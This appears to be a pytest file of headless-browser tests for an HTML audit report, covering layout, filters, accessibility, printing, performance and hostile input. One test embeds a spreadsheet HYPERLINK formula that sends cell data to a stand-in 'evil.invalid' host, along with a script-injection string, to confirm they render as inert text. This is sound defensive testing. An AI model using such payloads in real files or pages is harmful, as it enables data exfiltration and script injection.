"""The audit report as a browser shows it."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fixtures.verdict.outcome import Verdict
from reports.audit.texts import anchor
from reports.line import AnyLine
from tests.browser.axe import violations
from tests.browser.chromium import Chromium
from tests.lab.programs import program
from tests.unit.reports.large import large
from tests.unit.reports.varied import CAUSE, HOSTILE, every_verdict, green, hostile, record, troubled
from tests.unit.reports.written import check, statement

Pages = Callable[[list[AnyLine]], Path]
WINDOWS = {"desk": (1280, 800), "phone": (360, 640)}
PAPER = 688
"""CSS pixels between the margins of A4."""
OUTSIDE = """[...document.querySelectorAll('body *')].filter(each => {
    const box = each.getBoundingClientRect(), hides = getComputedStyle(each).overflow === 'hidden';
    if (!box.width || each.closest('.vh, .skip, svg, thead, .topo')) return false;
    return box.right > innerWidth + 1 || (hides && each.scrollHeight > each.clientHeight + 1);
}).map(each => each.outerHTML.slice(0, 120))"""
"""What stands over the edge, or is cut off by its own box."""
VISIBLE = "[...document.querySelectorAll('#list :is(.c, tr[id])')].filter(each => each.checkVisibility()).length"
FORMULA = """=HYPERLINK("http://evil.invalid?"&A1,"click")"""
SETTLED = "new Promise(done => setTimeout(done, 200))"
OPEN = "document.querySelectorAll('details').forEach(each => { each.open = true; })"


def told(browser: Chromium, selector: str) -> str:
    return str(browser.run(f"document.querySelector({json.dumps(selector)}).textContent"))


def complaints(browser: Chromium) -> list[Any]:
    """What the page's policy refused, what its script broke at, and what it asked for beside itself."""
    said = [
        each["params"] for each in browser.events if each["method"] in ("Log.entryAdded", "Runtime.exceptionThrown")
    ]
    asked = [
        each["params"]["request"]["url"] for each in browser.events if each["method"] == "Network.requestWillBeSent"
    ]
    return said + asked[1:]


@pytest.mark.parametrize("window", WINDOWS)
def test_the_first_screen_names_the_cause(browser: Chromium, page: Pages, window: str) -> None:
    browser.size(*WINDOWS[window])
    browser.open(page(every_verdict()))
    assert told(browser, "h1") == "Not as declared"
    box = browser.run(
        "(({top, bottom}) => ({top, bottom}))(document.querySelector('.firsts li').getBoundingClientRect())"
    )
    assert 0 < box["top"] < box["bottom"] < WINDOWS[window][1]
    assert CAUSE in told(browser, ".firsts li")
    assert complaints(browser) == []


@pytest.mark.parametrize("script", [True, False])
@pytest.mark.parametrize("verdict", ["passed", "blocked", "failed"])
def test_a_permalink_opens_its_row(browser: Chromium, page: Pages, script: bool, verdict: str) -> None:
    lines = large(300)
    line = [each for each in record(lines).checks if each.verdict == verdict][-1]
    browser.script(on=script)
    browser.open(page(lines), f"#{anchor(line.id)}")
    browser.script(on=True)
    browser.run(SETTLED)
    row = f"document.getElementById({json.dumps(anchor(line.id))})"
    assert browser.run(f"{row}.checkVisibility()") is True
    assert 0 <= browser.run(f"{row}.getBoundingClientRect().top") < WINDOWS["desk"][1]


def test_a_permalink_opens_what_a_filter_hid(browser: Chromium, page: Pages) -> None:
    lines = large(300)
    line = [each for each in record(lines).checks if each.verdict == "passed"][-1]
    browser.open(page(lines))
    browser.run("document.querySelector('button[data-v=blocked]').click()")
    browser.run(f"location.hash = {json.dumps(anchor(line.id))}")
    browser.run(SETTLED)
    assert browser.run(f"document.getElementById({json.dumps(anchor(line.id))}).checkVisibility()") is True
    assert told(browser, "#shown") == "300 checks"


def test_filters_count(browser: Chromium, page: Pages) -> None:
    lines = large(300)
    counts = record(lines).counts
    browser.open(page(lines))
    assert told(browser, "#shown") == "300 checks"
    browser.run("document.querySelector('button[data-v=blocked]').click()")
    assert told(browser, "#shown") == f"{counts['blocked']} of 300 checks"
    assert browser.run(VISIBLE) == counts["blocked"]
    browser.run("document.querySelector('button[data-v=failed]').click()")
    assert told(browser, "#shown") == f"{counts['blocked'] + 1} of 300 checks"
    browser.run("document.getElementById('clear').click()")
    assert told(browser, "#shown") == "300 checks"
    vault = sum(line.room == "vault" and line.severity == "critical" for line in record(lines).checks)
    browser.run("document.querySelector('a[data-room=vault][data-sev=critical]').click()")
    assert told(browser, "#shown") == f"{vault} of 300 checks"
    assert browser.run("document.getElementById('f-room').value") == "vault"


def test_search_from_the_keyboard(browser: Chromium, page: Pages) -> None:
    browser.open(page(large(300)))
    browser.press("/", "/")
    assert browser.run("document.activeElement.id") == "q"
    for sign in "thing-217":
        browser.press(sign, sign)
    browser.run(SETTLED)
    assert told(browser, "#shown") == "1 of 300 checks"
    assert browser.run(VISIBLE) == 1, "what is found is opened"
    browser.press("Escape")
    assert told(browser, "#shown") == "300 checks"


def test_the_keyboard_reaches_the_verdict_first(browser: Chromium, page: Pages) -> None:
    browser.open(page(every_verdict()))
    browser("Input.dispatchKeyEvent", type="keyDown", key="Tab", code="Tab", windowsVirtualKeyCode=9)
    assert browser.run("document.activeElement.textContent") == "To the verdict"
    assert browser.run("document.activeElement.getBoundingClientRect().left >= 0")
    outline = "getComputedStyle(document.activeElement).outlineStyle"
    assert browser.run(outline) == "solid", "one sees where one is"


def test_it_is_readable_without_a_script(browser: Chromium, page: Pages) -> None:
    browser.script(on=False)
    browser.open(page(every_verdict()))
    browser.script(on=True)
    assert browser.run("document.getElementById('filter').checkVisibility()") is False
    buttons = "[...document.querySelectorAll('button')].some(each => each.checkVisibility())"
    assert browser.run(buttons) is False
    browser.run(OPEN)
    verdicts = "[...document.querySelectorAll('#list :is(.c, tr[id])')].map(each => each.closest('[data-v]').dataset.v)"
    rows = browser.run(verdicts)
    assert sorted(rows) == sorted(str(line.verdict) for line in record(every_verdict()).checks)


@pytest.mark.parametrize("made", [every_verdict, troubled, green, hostile, lambda: large(120)])
@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (1280, "dark"), (360, "light")])
def test_axe_finds_no_violation(
    browser: Chromium, page: Pages, made: Callable[[], list[AnyLine]], width: int, scheme: str
) -> None:
    browser.size(width)
    browser.media(scheme=scheme)
    browser.open(page(made()))
    browser.run(OPEN)
    assert violations(browser) == {}


def test_axe_would_find_one(browser: Chromium, page: Pages) -> None:
    browser.open(page(green()))
    browser.run("document.querySelector('.lead').insertAdjacentHTML('afterend', '<img>')")
    assert [rule.partition(":")[0] for rule in violations(browser)] == ["image-alt"]


@pytest.mark.parametrize("made", [every_verdict, troubled, hostile, lambda: large(120)])
def test_nothing_stands_over_the_edge(browser: Chromium, page: Pages, made: Callable[[], list[AnyLine]]) -> None:
    file = page(made())
    for width, media in ((1280, ""), (360, ""), (PAPER, "print")):
        browser.size(width)
        browser.media(media)
        browser.open(file)
        browser.run(OPEN)
        cut = [each for each in browser.run(OUTSIDE) if media == "print" or "say" not in each]
        assert cut == [], (width, media)
        assert browser.run("document.documentElement.scrollWidth <= innerWidth")


def test_paper_cuts_no_box(browser: Chromium, page: Pages, tmp_path: Path) -> None:
    """What is to be typed, and each row of what was found, stands whole on one page; each page says which it is."""
    browser.open(page(large(120)))
    (tmp_path / "page.pdf").write_bytes(browser.pdf())
    said = _read(tmp_path / "page.pdf")
    pages = said.split("\f")[:-1]
    assert [f"page {n} of {len(pages)}" in text for n, text in enumerate(pages, 1)] == [True] * len(pages)
    words = [" ".join(text.split()) for text in pages]
    for typed in browser.run("[...document.querySelectorAll('.cmd pre')].map(each => each.textContent)"):
        assert any(typed in text for text in words), typed
    assert sum("every container depends on" in text or "thin line: holds" in text for text in words) == 1
    browser.media("print")
    for whole in (".cmd", "tr", ".topo", ".firsts li", "#sign"):
        assert browser.run(f"getComputedStyle(document.querySelector('{whole}')).breakInside") == "avoid", whole


def _read(file: Path) -> str:
    done = subprocess.run(
        [*program("poppler-utils", "usr/bin/pdftotext"), file, "-"],
        capture_output=True,
        check=True,
        timeout=60,
    )
    return done.stdout.decode()


def test_hostile_texts_stay_texts(browser: Chromium, page: Pages) -> None:
    formula = check("a.b.formula[x]", Verdict.FAILED, text=FORMULA, notes=(FORMULA,), found={FORMULA: FORMULA})
    browser.open(page([*hostile()[:-1], statement("a.b.formula"), formula, hostile()[-1]]))
    browser.run(OPEN)
    assert complaints(browser) == []
    assert not any(each["method"] == "Page.javascriptDialogOpening" for each in browser.events)
    assert browser.run("[document.scripts.length, document.images.length, document.forms.length]") == [1, 0, 0]
    assert "<script>alert(1)</script>" in told(browser, ".cause")
    assert "long " * 2000 in told(browser, ".cause"), "all of 10,000 characters"
    assert r"\u202e\x1b[31m" in told(browser, ".cause")
    assert browser.run("[...document.links].filter(each => !each.hash).length") == 0
    assert HOSTILE[:40] in told(browser, "#list")
    assert told(browser, "#list").count(FORMULA) >= 3


def test_five_thousand_checks(browser: Chromium, page: Pages) -> None:
    file = page(large(5000))
    assert file.stat().st_size < 3_000_000
    browser.open(file)
    took = browser.run(
        "(({startTime, loadEventEnd}) => loadEventEnd - startTime)(performance.getEntriesByType('navigation')[0])"
    )
    assert 0 < took < 2000
    searched = """(async () => {
        const q = document.getElementById('q'), began = performance.now();
        q.value = 'thing-4321'; q.dispatchEvent(new Event('input'));
        const shown = document.getElementById('shown');
        while (shown.textContent !== '1 of 5000 checks') await new Promise(requestAnimationFrame);
        return performance.now() - began;
    })()"""
    assert browser.run(searched) < 1000
